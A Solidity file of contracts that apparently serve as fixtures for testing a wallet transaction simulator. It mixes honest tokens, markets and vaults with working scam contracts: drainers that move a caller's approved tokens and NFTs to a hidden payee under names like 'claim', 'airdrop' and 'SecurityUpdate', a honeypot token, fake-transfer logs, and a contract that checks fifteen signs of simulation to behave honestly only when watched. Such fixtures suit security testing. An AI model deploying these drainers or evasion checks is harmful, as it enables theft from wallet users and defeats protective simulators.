// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// Contracts whose transactions are simulated and then really sent: honest ones, thieves, and thieves that look who watches.

interface Erc20 {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
}
interface Erc721 {
    function transferFrom(address from, address to, uint256 id) external;
}

contract Coin {
    string public name = "Coin";
    string public symbol = "COIN";
    uint8 public decimals = 6;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function mint(address to, uint256 value) external { totalSupply += value; balanceOf[to] += value; emit Transfer(address(0), to, value); }
    function burn(address from, uint256 value) external { totalSupply -= value; balanceOf[from] -= value; emit Transfer(from, address(0), value); }
    function approve(address to, uint256 value) external returns (bool) { allowance[msg.sender][to] = value; emit Approval(msg.sender, to, value); return true; }
    function increaseAllowance(address to, uint256 value) external returns (bool) { allowance[msg.sender][to] += value; emit Approval(msg.sender, to, allowance[msg.sender][to]); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _move(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }
    function _move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Takes a part of every transfer.
contract TaxedCoin is Coin {
    function _move(address from, address to, uint256 value) internal override {
        balanceOf[from] -= value;
        balanceOf[to] += value - value / 10;
        balanceOf[address(this)] += value / 10;
        emit Transfer(from, to, value);
    }
}

/// Moves balances and rights without a log.
contract SilentCoin {
    uint8 public decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    function mint(address to, uint256 value) external { balanceOf[to] += value; }
    function approve(address to, uint256 value) external returns (bool) { allowance[msg.sender][to] = value; return true; }
    function transfer(address to, uint256 value) external returns (bool) { balanceOf[msg.sender] -= value; balanceOf[to] += value; return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

/// Logs gifts that never happen.
contract LiarCoin {
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 value);
    function claim() external payable { emit Transfer(address(0), msg.sender, 1_000_000 ether); }
    function poison(address from, address to) external { emit Transfer(from, to, 500 ether); }
}

contract Nft {
    string public name = "Items";
    string public symbol = "ITEM";
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    event Approval(address indexed owner, address indexed approved, uint256 indexed id);
    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);
    function supportsInterface(bytes4 id) external pure returns (bool) { return id == 0x80ac58cd || id == 0x01ffc9a7; }
    function mint(address to, uint256 id) external { ownerOf[id] = to; balanceOf[to]++; emit Transfer(address(0), to, id); }
    function approve(address to, uint256 id) external { require(ownerOf[id] == msg.sender); getApproved[id] = to; emit Approval(msg.sender, to, id); }
    function setApprovalForAll(address operator, bool approved) external { isApprovedForAll[msg.sender][operator] = approved; emit ApprovalForAll(msg.sender, operator, approved); }
    function transferFrom(address from, address to, uint256 id) external {
        require(ownerOf[id] == from, "not his");
        require(msg.sender == from || isApprovedForAll[from][msg.sender] || getApproved[id] == msg.sender, "not allowed");
        delete getApproved[id];
        ownerOf[id] = to;
        balanceOf[from]--;
        balanceOf[to]++;
        emit Transfer(from, to, id);
    }
}

contract Units {
    mapping(uint256 => mapping(address => uint256)) private held;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    event TransferSingle(address indexed operator, address indexed from, address indexed to, uint256 id, uint256 value);
    event TransferBatch(address indexed operator, address indexed from, address indexed to, uint256[] ids, uint256[] values);
    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);
    function balanceOf(address who, uint256 id) external view returns (uint256) { return held[id][who]; }
    function mint(address to, uint256 id, uint256 value) external { held[id][to] += value; emit TransferSingle(msg.sender, address(0), to, id, value); }
    function setApprovalForAll(address operator, bool approved) external { isApprovedForAll[msg.sender][operator] = approved; emit ApprovalForAll(msg.sender, operator, approved); }
    function safeBatchTransferFrom(address from, address to, uint256[] calldata ids, uint256[] calldata values, bytes calldata) external {
        require(msg.sender == from || isApprovedForAll[from][msg.sender]);
        for (uint256 i; i < ids.length; i++) { held[ids[i]][from] -= values[i]; held[ids[i]][to] += values[i]; }
        emit TransferBatch(msg.sender, from, to, ids, values);
    }
}

contract Wrapped {
    string public symbol = "WCOIN";
    uint8 public decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Deposit(address indexed to, uint256 value);
    event Withdrawal(address indexed from, uint256 value);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    receive() external payable { deposit(); }
    function deposit() public payable { balanceOf[msg.sender] += msg.value; emit Deposit(msg.sender, msg.value); }
    function withdraw(uint256 value) external { balanceOf[msg.sender] -= value; emit Withdrawal(msg.sender, value); payable(msg.sender).transfer(value); }
    function approve(address to, uint256 value) external returns (bool) { allowance[msg.sender][to] = value; emit Approval(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (msg.sender != from) allowance[from][msg.sender] -= value;
        balanceOf[from] -= value; balanceOf[to] += value; emit Transfer(from, to, value); return true;
    }
}

/// Gives a fixed rate of one coin for the other; what it holds is its pool.
contract Swapper {
    function swap(Erc20 give, Erc20 take, uint256 value, uint256 deadline) external {
        require(block.timestamp <= deadline, "expired");
        give.transferFrom(msg.sender, address(this), value);
        take.transfer(msg.sender, value * 2);
    }
    function buy(Erc20 take) external payable { take.transfer(msg.sender, msg.value / 1e12); }
    function sell(Erc20 give, uint256 value) external { give.transferFrom(msg.sender, address(this), value); payable(msg.sender).transfer(value * 1e10); }
    receive() external payable {}
}

/// Keeps coins and gives shares for them.
contract Vault is Coin {
    Erc20 public immutable asset;
    constructor(Erc20 asset_) { asset = asset_; symbol = "vCOIN"; }
    function deposit(uint256 value) external {
        asset.transferFrom(msg.sender, address(this), value);
        balanceOf[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }
    function redeem(uint256 value) external {
        balanceOf[msg.sender] -= value;
        emit Transfer(msg.sender, address(0), value);
        asset.transfer(msg.sender, value);
    }
}

/// Pays many at once.
contract Payout {
    function payCoin(address payable[] calldata to, uint256[] calldata values) external payable {
        for (uint256 i; i < to.length; i++) to[i].transfer(values[i]);
    }
    function payToken(Erc20 token, address[] calldata to, uint256[] calldata values) external {
        for (uint256 i; i < to.length; i++) token.transferFrom(msg.sender, to[i], values[i]);
    }
}

/// Items against money: offers stand in it, so that the buyer isn't named by who accepts.
contract Bazaar {
    struct Offer { address buyer; uint256 price; }
    mapping(address => mapping(uint256 => Offer)) public offers;
    mapping(address => mapping(uint256 => Offer)) public listings;
    Erc20 public immutable money;
    constructor(Erc20 money_) { money = money_; }
    function offer(address item, uint256 id, uint256 price) external { offers[item][id] = Offer(msg.sender, price); }
    function accept(Erc721 item, uint256 id) external {
        Offer memory o = offers[address(item)][id];
        money.transferFrom(o.buyer, msg.sender, o.price);
        item.transferFrom(msg.sender, o.buyer, id);
    }
    function list(address item, uint256 id, uint256 price) external { listings[item][id] = Offer(msg.sender, price); }
    function buy(Erc721 item, uint256 id) external payable {
        Offer memory l = listings[address(item)][id];
        require(msg.value == l.price, "price");
        item.transferFrom(l.buyer, msg.sender, id);
        payable(l.buyer).transfer(msg.value);
    }
}

/// Takes coin under a promising name, and keeps it or sends it on.
contract CoinThief {
    address payable private immutable payee;
    constructor(address payable payee_) { payee = payee_; }
    function Claim() external payable {}
    function SecurityUpdate() external payable { payee.transfer(msg.value); }
    function take() external { payee.transfer(address(this).balance); }
}

/// Moves whatever was approved to somebody whom no calldata names.
contract TokenThief {
    address private immutable payee;
    constructor(address payee_) { payee = payee_; }
    function claim(Erc20[] calldata tokens) external {
        for (uint256 i; i < tokens.length; i++) tokens[i].transferFrom(msg.sender, payee, tokens[i].balanceOf(msg.sender));
    }
    function claimItems(Erc721 items, uint256[] calldata ids) external {
        for (uint256 i; i < ids.length; i++) items.transferFrom(msg.sender, payee, ids[i]);
    }
}

/// Gives worthless paper for what it takes.
contract PaperThief is Coin {
    address private immutable payee;
    constructor(address payee_) { payee = payee_; symbol = "GIFT"; }
    function airdrop(Erc20[] calldata tokens) external {
        for (uint256 i; i < tokens.length; i++) tokens[i].transferFrom(msg.sender, payee, tokens[i].balanceOf(msg.sender));
        balanceOf[msg.sender] += 1000;
        emit Transfer(address(0), msg.sender, 1000);
    }
}

/// Calls itself as it likes, and sends on what it is paid.
contract Namesake is Coin {
    address payable private immutable payee;
    constructor(address payable payee_, string memory name_, string memory symbol_) { (payee, name, symbol) = (payee_, name_, symbol_); }
    function buy() external payable {
        balanceOf[msg.sender] += 1e12;
        emit Transfer(address(0), msg.sender, 1e12);
        payee.transfer(msg.value);
    }
}

/// Behaves well when it believes to be watched: by what simulators get wrong.
contract Watcher is Coin {
    address private immutable payee;
    uint256 private immutable way;
    uint256 private immutable madeAt = block.timestamp;
    constructor(address payee_, uint256 way_) { (payee, way) = (payee_, way_); symbol = "BAIT"; }
    function watched() public view returns (bool) {
        if (way == 0) return block.coinbase == address(0);
        if (way == 1) return block.coinbase != address(0);
        if (way == 2) return tx.gasprice == 0;
        if (way == 3) return tx.gasprice < 100 gwei;
        if (way == 4) return block.timestamp % 2 == 0;
        if (way == 5) return block.number % 2 == 0;
        if (way == 6) return block.timestamp < madeAt + 6 hours;
        if (way == 7) return block.basefee == 0;
        if (way == 8) return tx.origin.balance > 50_000 ether;
        if (way == 9) return block.number % 2 == 1;
        if (way == 10) return block.timestamp % 2 == 1;
        if (way == 11) return gasleft() > 600_000;
        if (way == 12) return tx.gasprice == 0 || tx.gasprice >= 100 gwei || tx.gasprice == block.basefee * 5 / 4 + 1 gwei;
        if (way == 13) return wordOf(0x000F3df6D732807Ef1319fB7B8bB8522d0Beac02, block.timestamp) == 0;
        if (way == 14) return wordOf(0x0000F90827F1C53a10cb7A02335B175320002935, block.number - 1) != uint256(blockhash(block.number - 1));
        return block.number > 1_000_000_000;
    }
    function wordOf(address system, uint256 key) private view returns (uint256) {
        (bool ok, bytes memory word) = system.staticcall(abi.encode(key));
        return ok && word.length == 32 ? abi.decode(word, (uint256)) : 0;
    }
    function claim(Erc20 token) external {
        if (watched()) { balanceOf[msg.sender] += 5; emit Transfer(address(0), msg.sender, 5); }
        else token.transferFrom(msg.sender, payee, token.balanceOf(msg.sender));
    }
    function claimCoin() external payable {
        if (watched()) payable(msg.sender).transfer(msg.value);
        else payable(payee).transfer(msg.value);
    }
}

/// Looks at the block as honestly as can be: a deadline, a price that falls, a tip for who makes the block.
contract Clockwork is Coin {
    uint256 private immutable madeAt = block.timestamp;
    function price() public view returns (uint256) {
        uint256 age = block.timestamp - madeAt;
        return age >= 1 days ? 0.1 ether : 1 ether - 0.9 ether * age / 1 days;
    }
    function auction() external payable {
        uint256 due = price();
        require(msg.value >= due, "too little");
        balanceOf[msg.sender] += 1;
        emit Transfer(address(0), msg.sender, 1);
        payable(msg.sender).transfer(msg.value - due);
    }
    function vest() external {
        uint256 due = (block.timestamp - madeAt) / 1 hours;
        if (due == 0) return;
        balanceOf[msg.sender] += due;
        emit Transfer(address(0), msg.sender, due);
    }
    function early() external payable {
        require(block.timestamp >= madeAt + 2 hours, "not yet");
        balanceOf[msg.sender] += 1;
        emit Transfer(address(0), msg.sender, 1);
    }
    function tip() external payable {
        block.coinbase.transfer(1000);
        balanceOf[msg.sender] += 1;
        emit Transfer(address(0), msg.sender, 1);
        payable(msg.sender).transfer(msg.value - 1000);
    }
}

/// Can be bought and never sold.
contract Honeypot is Coin {
    error SellingClosed(address who);
    mapping(address => bool) private isFriend;
    constructor() { isFriend[msg.sender] = true; symbol = "HONEY"; }
    function buy() external payable { balanceOf[msg.sender] += msg.value; emit Transfer(address(0), msg.sender, msg.value); }
    function sell(uint256) external view { if (!isFriend[msg.sender]) revert SellingClosed(msg.sender); }
    function fail(uint256 way) external pure returns (uint256) {
        if (way == 0) revert("no, thank you");
        if (way == 1) assert(false);
        if (way == 2) require(false);
        if (way == 3) return way / (way - 3);
        if (way == 4) assembly { invalid() }
        return way;
    }
}

contract Governed {
    address public owner;
    constructor(address owner_) { owner = owner_; }
    event OwnershipTransferred(address indexed from, address indexed to);
    function transferOwnership(address to) external { require(msg.sender == owner, "not the owner"); emit OwnershipTransferred(owner, to); owner = to; }
    function settle(address to) external { require(msg.sender == owner, "not the owner"); owner = to; }
}

contract UpgradableBox {
    bytes32 private constant implementation = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant admin = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;
    constructor(address admin_, address first) { assembly { sstore(admin, admin_) sstore(implementation, first) } }
    modifier onlyAdmin() { address a; assembly { a := sload(admin) } require(msg.sender == a, "not the admin"); _; }
    function upgradeTo(address to) external onlyAdmin { assembly { sstore(implementation, to) } }
    function changeAdmin(address to) external onlyAdmin { assembly { sstore(admin, to) } }
}

/// What wallets use of Permit2, put at its address.
contract Permit2Like {
    struct Allowed { uint160 amount; uint48 expiration; uint48 nonce; }
    mapping(address => mapping(address => mapping(address => Allowed))) public allowance;
    event Approval(address indexed owner, address indexed token, address indexed spender, uint160 amount, uint48 expiration);
    event Lockdown(address indexed owner, address token, address spender);
    function approve(address token, address spender, uint160 amount, uint48 expiration) external {
        allowance[msg.sender][token][spender].amount = amount;
        allowance[msg.sender][token][spender].expiration = expiration;
        emit Approval(msg.sender, token, spender, amount, expiration);
    }
    struct Pair { address token; address spender; }
    function lockdown(Pair[] calldata pairs) external {
        for (uint256 i; i < pairs.length; i++) { allowance[msg.sender][pairs[i].token][pairs[i].spender].amount = 0; emit Lockdown(msg.sender, pairs[i].token, pairs[i].spender); }
    }
}

/// Loops, nests, logs and returns without measure.
contract Excess {
    event Noise(uint256 indexed number);
    function loop() external pure { for (uint256 i; ; i++) {} }
    function nest(uint256 depth) external { if (depth > 0) this.nest(depth - 1); }
    function log(uint256 count) external { for (uint256 i; i < count; i++) emit Noise(i); }
    function big(uint256 size) external pure { assembly { return(0, size) } }
    function create(uint256 count) external { for (uint256 i; i < count; i++) new Governed(msg.sender); }
    function end(address payable to) external payable { selfdestruct(to); }
}

/// Lets an ally of its own have what joins, as no calldata tells.
contract Alliance is Coin {
    address private immutable ally;
    uint256 private immutable value;
    constructor(address ally_, uint256 value_) { (ally, value) = (ally_, value_); }
    function join() external { allowance[msg.sender][ally] = value; emit Approval(msg.sender, ally, value); }
}

/// Anybody may say whose it is.
contract Foundling {
    address public owner;
    constructor(address owner_) { owner = owner_; }
    function adopt(address by) external { owner = by; }
}

/// Has another contract, which no calldata names, take part in what it does.
contract Errand {
    address private immutable helper;
    constructor(address helper_) { helper = helper_; }
    function run() external { (bool ok,) = helper.call(abi.encodeWithSignature("log(uint256)", 1)); ok; }
}
